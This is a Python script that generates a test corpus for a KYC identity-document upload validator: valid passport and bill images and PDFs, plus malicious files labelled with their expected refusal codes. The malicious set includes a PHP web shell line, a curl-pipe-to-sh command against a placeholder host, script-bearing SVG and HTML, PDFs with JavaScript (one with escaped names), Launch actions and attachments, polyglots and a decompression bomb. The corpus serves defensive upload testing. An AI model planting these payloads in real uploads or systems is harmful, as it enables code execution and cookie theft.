"""Regenerate the KYC upload corpus: valid documents and malicious or malformed files.

    .venv/bin/python tests/kyc/corpus/make_corpus.py

Writes ``valid/`` and ``malicious/`` beside this script and ``manifest.json``, which names
each file with what the upload check must answer: the content type for a valid file, the
refusal code for a bad one. File names end in the extension an attacker would give them
(``.jpg``, ``.pdf``), never in what they really are. Every file is small (a few KB).
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfWriter

HERE = Path(__file__).resolve().parent


def _card(mode: str = "RGB", size: tuple[int, int] = (320, 200)) -> Image.Image:
    """A small picture that looks like an identity card: a frame, a photo box, text lines."""
    image = Image.new(mode, size, "white" if mode != "RGBA" else (255, 255, 255, 255))
    draw = ImageDraw.Draw(image)
    draw.rectangle((4, 4, size[0] - 5, size[1] - 5), outline="navy", width=3)
    draw.rectangle((16, 30, 96, 130), fill="lightsteelblue")
    for row in range(5):
        draw.line((110, 40 + row * 18, 290, 40 + row * 18), fill="gray", width=4)
    draw.text((16, 150), "PASSPORT  P<UTOPIA<<DOE<<JANE", fill="black")
    return image


def _image(fmt: str, mode: str = "RGB", *, small: bool = False, **options: object) -> bytes:
    buffer = io.BytesIO()
    card = _card(mode)
    (card.resize((64, 40)) if small else card).save(buffer, fmt, **options)
    return buffer.getvalue()


def _pdf(pages: int = 1, *, extra: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if extra is not None:
        extra(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_from_scan() -> bytes:
    buffer = io.BytesIO()
    _card().save(buffer, "PDF", resolution=72)
    return buffer.getvalue()


def _raw_pdf(catalog_extra: bytes = b"", objects: tuple[bytes, ...] = ()) -> bytes:
    """A minimal one-page PDF written object by object, with a correct cross-reference table."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


# JavaScript run on opening, spelled plainly, and spelled with PDF name escapes (#61 = "a"),
# which a byte search misses but every PDF reader (and pypdf) decodes to /JavaScript.
PDF_JAVASCRIPT = _raw_pdf(
    b"/Names << /JavaScript 4 0 R >>",
    (b"<< /Names [(hello) 5 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1);) >>"),
)
PDF_JAVASCRIPT_ESCAPED = _raw_pdf(
    b"/OpenAction 4 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1);) >>",)
)
PDF_LAUNCH = _raw_pdf(b"/OpenAction 4 0 R", (b"<< /S /Launch /F (cmd.exe) >>",))
PDF_RAW = _raw_pdf()


def _pdf_with_attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00not really a program")


def _pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types></Types>',
            "word/document.xml": b"<w:document/>",
        }
    )


def _png_bomb() -> bytes:
    """A 1-bit PNG of 20,000 x 20,000 pixels: tiny on disk, 400 megapixels decoded."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def _png_bad_crc() -> bytes:
    data = bytearray(_image("PNG"))
    idat = data.find(b"IDAT")
    data[idat + 10] ^= 0xFF  # flip a byte of compressed pixels; the CRC no longer matches
    return bytes(data)


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>\n"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/staff/')</script></body></html>\n"
JPEG = _image("JPEG", quality=85)
PNG = _image("PNG")
PDF = _pdf()

VALID: dict[str, tuple[bytes, str]] = {
    "passport-photo.jpg": (JPEG, "image/jpeg"),
    "passport-progressive.jpg": (_image("JPEG", progressive=True, quality=80), "image/jpeg"),
    "passport-greyscale.jpeg": (_image("JPEG", mode="L"), "image/jpeg"),
    "passport-cmyk.jpg": (_image("JPEG", mode="CMYK"), "image/jpeg"),
    "utility-bill.png": (PNG, "image/png"),
    "utility-bill-transparent.png": (_image("PNG", mode="RGBA"), "image/png"),
    "id-card.webp": (_image("WEBP", quality=80), "image/webp"),
    "id-card-lossless.webp": (_image("WEBP", lossless=True), "image/webp"),
    "bank-statement.pdf": (PDF, "application/pdf"),
    "bank-statement-3-pages.pdf": (_pdf(3), "application/pdf"),
    "hand-written-minimal.pdf": (PDF_RAW, "application/pdf"),
    "scanned-letter.pdf": (_pdf_from_scan(), "application/pdf"),
    # The name says nothing: a PDF called .jpg is still a PDF, and is accepted as one.
    "named-wrongly-really-a-pdf.jpg": (PDF, "application/pdf"),
    "named-wrongly-really-a-png.pdf": (PNG, "image/png"),
}

MALICIOUS: dict[str, tuple[bytes, str]] = {
    "empty.jpg": (b"", "empty"),
    "svg-with-script.jpg": (SVG, "markup"),
    "svg-with-script.pdf": (SVG, "markup"),
    "svg-without-prolog.jpg": (SVG.split(b"\n", 1)[1], "markup"),
    "html-page.jpg": (HTML, "markup"),
    "html-page.pdf": (HTML, "markup"),
    "html-with-bom.png": (b"\xef\xbb\xbf" + HTML, "markup"),
    "php-script.jpg": (b"<?php system($_GET['c']); ?>\n", "markup"),
    "shell-script.jpg": (b"#!/bin/sh\ncurl http://x.example | sh\n", "script"),
    "plain-text.pdf": (b"Dear Sir, my passport number is 123.\n", "unknown"),
    "zip-archive.jpg": (_zip({"passport.jpg": JPEG}), "archive"),
    "zip-archive.pdf": (_zip({"statement.pdf": PDF}), "archive"),
    "gzip-archive.pdf": (gzip.compress(PDF), "archive"),
    "seven-zip-archive.jpg": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64, "archive"),
    "rar-archive.pdf": (b"Rar!\x1a\x07\x00" + b"\x00" * 64, "archive"),
    "word-document.pdf": (_docx(), "type"),
    "windows-program.jpg": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "program"),
    "linux-program.pdf": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, "program"),
    "gif-image.jpg": (_image("GIF", small=True), "type"),
    "bmp-image.jpg": (_image("BMP", small=True), "type"),
    "tiff-image.pdf": (_image("TIFF", small=True), "type"),
    "jpeg-with-zip-appended.jpg": (JPEG + _zip({"x.html": HTML}), "polyglot"),
    "png-with-html-appended.jpg": (PNG + HTML, "polyglot"),
    "jpeg-with-html-in-comment.jpg": (
        JPEG[:2] + b"\xff\xfe\x00\x2a<script>alert(1)</script>                  " + JPEG[2:],
        "polyglot",
    ),
    "jpeg-with-pdf-appended.jpg": (JPEG + PDF, "polyglot"),
    "png-with-gzip-appended.png": (PNG + gzip.compress(b"payload" * 10), "polyglot"),
    "pdf-with-zip-appended.pdf": (PDF + _zip({"a.txt": b"hidden"}), "polyglot"),
    "pdf-with-html.pdf": (
        PDF.replace(b"%%EOF", b"<html><script>alert(1)</script>\n%%EOF"),
        "polyglot",
    ),  # fmt: skip
    "jpeg-truncated.jpg": (JPEG[: len(JPEG) // 2], "corrupt"),
    "png-truncated.png": (PNG[: len(PNG) // 2], "corrupt"),
    "png-bad-checksum.png": (_png_bad_crc(), "corrupt"),
    "png-decompression-bomb.png": (_png_bomb(), "too_large"),
    "jpeg-header-only.jpg": (JPEG[:20], "corrupt"),
    "pdf-truncated.pdf": (PDF[: len(PDF) // 2], "corrupt"),
    "pdf-header-only.pdf": (b"%PDF-1.7\n%%EOF\n", "corrupt"),
    "pdf-garbage-body.pdf": (b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n", "corrupt"),
    "pdf-with-javascript.pdf": (PDF_JAVASCRIPT, "active_content"),
    "pdf-with-escaped-javascript.pdf": (PDF_JAVASCRIPT_ESCAPED, "active_content"),
    "pdf-with-attachment.pdf": (_pdf(extra=_pdf_with_attachment), "active_content"),
    "pdf-with-launch-action.pdf": (PDF_LAUNCH, "active_content"),
    "pdf-encrypted.pdf": (_pdf_encrypted(), "encrypted"),
    "pdf-too-many-pages.pdf": (_pdf(31), "too_large"),
}


def main() -> None:
    manifest: dict[str, dict[str, str]] = {"valid": {}, "malicious": {}}
    for folder, files in (("valid", VALID), ("malicious", MALICIOUS)):
        target = HERE / folder
        target.mkdir(exist_ok=True)
        for old in target.iterdir():
            old.unlink()
        for name, (content, expected) in sorted(files.items()):
            (target / name).write_bytes(content)
            manifest[folder][name] = expected
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    sizes = sum(path.stat().st_size for path in HERE.rglob("*") if path.is_file())
    print(f"{len(VALID)} valid, {len(MALICIOUS)} malicious files, {sizes // 1024} KB in all")


if __name__ == "__main__":
    main()
